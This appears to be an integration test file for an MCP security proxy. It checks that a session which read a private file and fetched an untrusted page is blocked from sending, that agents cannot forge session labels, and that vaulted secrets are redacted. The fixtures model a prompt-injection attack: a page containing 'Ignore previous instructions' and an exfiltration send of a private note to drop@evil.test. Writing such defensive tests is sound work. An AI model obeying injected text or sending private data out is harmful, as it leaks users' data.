/**
 * Run-time flow control and vaulted-secret redaction through the real MCP proxy, with real upstream
 * servers: `@modelcontextprotocol/server-filesystem` (classified as reading private data by the
 * exposure rules) and a small hostile stdio server (a page fetcher bringing untrusted content, a
 * message sender, a leaky debug tool).
 *
 * - read a private file → fetch an untrusted page → send: the send is held `flow.trifecta`, the
 *   two reads named with their ledger events, and the upstream never receives it;
 * - a fresh session (another x-actpass-session, another stdio connection) is not held;
 * - the agent cannot name labels: a hostile session header is refused, a preflight with labels is 400;
 * - a vaulted secret leased to the proxy, and an upstream's configured token, echoed raw, base64,
 *   URL-encoded and inside JSON, never reach the agent.
 */
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createFileStores, createGateway, type Gateway, packSource } from '@actpass/gateway';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { secretSpellings } from '../../../src/filter/index.js';
import { createMcpProxy, type McpProxy } from '../../../src/proxy/mcp/index.js';
import { approve, evidence, FILESYSTEM, KEYS, listStarted, tempDir, text } from './harness.js';

const OUTBOUND = fileURLToPath(new URL('./fixtures/outbound-server.mjs', import.meta.url));
const VAULTED = 'vault/Val"ue+é-7Qz9&x';
const API_TOKEN = 'tok_upstream_4f9e2a7c1b3d';
const PRIVATE_NOTE = 'salary review: 131000';

const trifecta = (packSource('outbound-email') as { rules: Array<{ id: string }> }).rules.find(
  (rule) => rule.id === 'flow-trifecta',
);
const POLICY = {
  id: 'mcp-flow-test',
  version: 1,
  default: { decision: 'deny', reason: 'policy.no_match', risk_tier: 'high' },
  rules: [
    trifecta,
    {
      id: 'allow-mcp',
      when: [{ path: 'tool', operator: 'glob', value: 'mcp.**' }],
      decision: 'allow',
      reason: 'test.allowed',
      risk_tier: 'low',
    },
  ],
};

let dir: string;
let sentLog: string;
let gateway: Gateway;
let proxy: McpProxy;
let url: string;
const clients: Client[] = [];

async function agent(session?: string): Promise<Client> {
  const client = new Client({ name: 'flow-agent', version: '1' });
  await client.connect(
    new StreamableHTTPClientTransport(new URL(url), {
      requestInit: {
        headers: {
          authorization: `Bearer ${KEYS.agent}`,
          ...(session ? { 'x-actpass-session': session } : {}),
        },
      },
    }),
  );
  clients.push(client);
  return client;
}

function sends(): string[] {
  return existsSync(sentLog) ? readFileSync(sentLog, 'utf8').trim().split('\n').filter(Boolean) : [];
}

const proxyConfig = () => ({
  unapproved: 'refuse',
  servers: {
    files: { command: process.execPath, args: [FILESYSTEM, join(dir, 'private')] },
    out: {
      command: process.execPath,
      args: [OUTBOUND],
      env: { SENT_LOG: sentLog, ECHO_VALUE: VAULTED, API_TOKEN },
    },
  },
});

beforeAll(async () => {
  dir = tempDir('actpass-mcp-flow-');
  sentLog = join(dir, 'sent.jsonl');
  const { mkdirSync } = await import('node:fs');
  mkdirSync(join(dir, 'private'));
  writeFileSync(join(dir, 'private', 'notes.txt'), PRIVATE_NOTE);
  gateway = createGateway({
    tenants: [{ id: 'acme', policy: POLICY }],
    apiKeys: [
      { key: KEYS.agent, tenantId: 'acme', roles: ['agent'] },
      { key: KEYS.admin, tenantId: 'acme', roles: ['admin'] },
      { key: KEYS.proxy, tenantId: 'acme', roles: ['proxy'] },
    ],
    stores: createFileStores(join(dir, 'state')),
    vaultKey: Buffer.alloc(32, 7).toString('base64'),
  });
  const stored = await gateway.fetch(
    new Request('http://gw/api/v1/credentials/deploy_key', {
      method: 'PUT',
      headers: { authorization: `Bearer ${KEYS.admin}`, 'content-type': 'application/json' },
      body: JSON.stringify({ value: VAULTED, bound_tools: ['mcp.out.show_config'], delivery: 'proxy' }),
    }),
  );
  expect(stored.status).toBeLessThan(300);
  proxy = createMcpProxy(proxyConfig(), {
    gateway: { proxyKey: KEYS.proxy, fetch: gateway.fetch, maxRetries: 0 },
    agentKey: KEYS.agent,
    warn: () => undefined,
  });
  url = (await proxy.listen({ host: '127.0.0.1', port: 0 })).url;
  // The proxy refuses unapproved tools: an admin approves what the first listing shows.
  const lister = new Client({ name: 'admin-view', version: '1' });
  const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
  await proxy.connect(serverSide);
  await lister.connect(clientSide);
  const { tools } = await lister.listTools();
  expect(tools).toEqual([]);
  await lister.close();
  const listing = await agentWithHold();
  for (const tool of listing) await approve(gateway, tool);
}, 90_000);

/** The tools as a proxy holding unapproved tools lists them (same upstreams), for the admin to approve. */
async function agentWithHold() {
  const holding = createMcpProxy(
    { ...proxyConfig(), unapproved: 'hold' },
    { gateway: { proxyKey: KEYS.proxy, fetch: gateway.fetch, maxRetries: 0 }, warn: () => undefined },
  );
  const served = await holding.listen({ host: '127.0.0.1', port: 0 });
  const client = new Client({ name: 'lister', version: '1' });
  await client.connect(
    new StreamableHTTPClientTransport(new URL(served.url), {
      requestInit: { headers: { authorization: `Bearer ${KEYS.agent}` } },
    }),
  );
  const tools = await listStarted(client, ['files', 'out'], 20);
  await client.close();
  await holding.close();
  return tools.filter((tool) =>
    ['files.read_text_file', 'out.fetch_page', 'out.send_message', 'out.show_config'].includes(tool.name),
  );
}

afterAll(async () => {
  await Promise.all(clients.map((client) => client.close().catch(() => undefined)));
  await proxy?.close();
  await gateway?.close();
  rmSync(dir, { recursive: true, force: true });
});

const readPrivate = (client: Client) =>
  client.callTool({ name: 'files.read_text_file', arguments: { path: join(dir, 'private', 'notes.txt') } });
const fetchPage = (client: Client) =>
  client.callTool({ name: 'out.fetch_page', arguments: { url: 'https://shop.evil.test/' } });
const send = (client: Client, body: string) =>
  client.callTool({ name: 'out.send_message', arguments: { to: 'drop@evil.test', body } });

describe('the lethal trifecta through the MCP proxy', () => {
  it('holds the send of a session that read private data and untrusted content, naming the reads', async () => {
    const client = await agent('session-a');
    expect(text(await readPrivate(client))).toContain(PRIVATE_NOTE);
    expect(text(await fetchPage(client))).toContain('Ignore previous instructions');
    const before = sends().length;

    const held = await send(client, PRIVATE_NOTE);
    expect(held.isError).toBe(true);
    const said = text(held);
    expect(said).toMatch(/^BLOCKED flow\.trifecta: /);
    expect(said).toMatch(/private_data from mcp\.files\.read_text_file \(ev_[A-Za-z0-9_-]+\)/);
    expect(said).toMatch(/untrusted_content from mcp\.out\.fetch_page \(ev_[A-Za-z0-9_-]+\)/);
    expect(said).toMatch(/\(approval apr_/);
    expect(sends()).toHaveLength(before);

    // Sealed: one event per label change, naming the session and tool, never the arguments.
    const labeled = (await evidence(gateway)).filter(
      (event) => event.type === 'session.labeled' && event.data.session_id === 'session-a',
    );
    expect(labeled.map((event) => `${event.data.label} ${event.data.tool}`).sort()).toEqual([
      'external_comm mcp.out.fetch_page',
      'private_data mcp.files.read_text_file',
      'untrusted_content mcp.out.fetch_page',
    ]);
    expect(JSON.stringify(labeled)).not.toContain('notes.txt');
    expect(JSON.stringify(labeled)).not.toContain('shop.evil.test');
  });

  it('does not hold a fresh session', async () => {
    const client = await agent('session-b');
    const before = sends().length;
    const sent = await send(client, 'hello');
    expect([sent.isError ?? false, text(sent)]).toEqual([false, 'sent to drop@evil.test']);
    expect(sends()).toHaveLength(before + 1);
  });

  it('gives each stdio-style connection its own session, minted by the proxy', async () => {
    const connect = async () => {
      const client = new Client({ name: 'conn', version: '1' });
      const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
      await proxy.connect(serverSide);
      await client.connect(clientSide);
      clients.push(client);
      return client;
    };
    const first = await connect();
    await readPrivate(first);
    await fetchPage(first);
    expect(text(await send(first, 'x'))).toMatch(/^BLOCKED flow\.trifecta/);
    const second = await connect();
    expect(text(await send(second, 'y'))).toBe('sent to drop@evil.test');
    // Two connections, two sessions the proxy named: the second's send labelled only its own.
    const minted = (await evidence(gateway))
      .filter((event) => event.type === 'session.labeled' && String(event.data.session_id).startsWith('mcp-'))
      .map((event) => [String(event.data.session_id), String(event.data.label)]);
    const bySession = new Map<string, string[]>();
    for (const [id, label] of minted)
      bySession.set(id as string, [...(bySession.get(id as string) ?? []), label as string]);
    expect([...bySession.values()].map((labels) => labels.sort())).toEqual([
      ['external_comm', 'private_data', 'untrusted_content'],
      ['external_comm'],
    ]);
  });

  it('lets no agent name its labels: a hostile session header is refused, labels in a preflight are 400', async () => {
    for (const hostile of ['a b', 'x'.repeat(200), '<script>']) {
      const response = await fetch(url, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${KEYS.agent}`,
          'content-type': 'application/json',
          accept: 'application/json, text/event-stream',
          'x-actpass-session': hostile,
        },
        body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list', params: {} }),
      });
      expect(response.status, hostile).toBe(400);
      expect(await response.text()).toContain('x-actpass-session');
    }
    const forged = await gateway.fetch(
      new Request('http://gw/api/v1/actions/preflight', {
        method: 'POST',
        headers: { authorization: `Bearer ${KEYS.agent}`, 'content-type': 'application/json' },
        body: JSON.stringify({
          goal: 'mcp_tool_call',
          tool: 'mcp.out.send_message',
          context: { session: { id: 'session-a', labels: [] } },
        }),
      }),
    );
    expect(forged.status).toBe(400);
    expect(await forged.text()).toContain('context.session.labels');
  });
});

describe('vaulted secrets in MCP tool results', () => {
  it('redacts a leased vaulted secret and an upstream token in every spelling, and records the kind', async () => {
    const client = await agent('session-secrets');
    const result = await client.callTool({ name: 'out.show_config', arguments: {} });
    const seen = JSON.stringify(result);
    for (const value of [VAULTED, API_TOKEN])
      for (const spelling of secretSpellings(value)) expect(seen, spelling).not.toContain(spelling);
    expect(seen).not.toContain(Buffer.from(VAULTED).toString('base64'));
    expect(seen).not.toContain(encodeURIComponent(VAULTED));
    expect(text(result).match(/\[REDACTED:vaulted_secret\]/g)).toHaveLength(8);
    expect((result as { structuredContent: unknown }).structuredContent).toEqual({
      echoed: '[REDACTED:vaulted_secret]',
    });
    await proxy.settled();
    const redacted = (await evidence(gateway)).filter((event) => event.type === 'response.redacted');
    expect(JSON.stringify(redacted)).toContain('vaulted_secret');
    expect(JSON.stringify(await evidence(gateway))).not.toContain(API_TOKEN);
  });
});
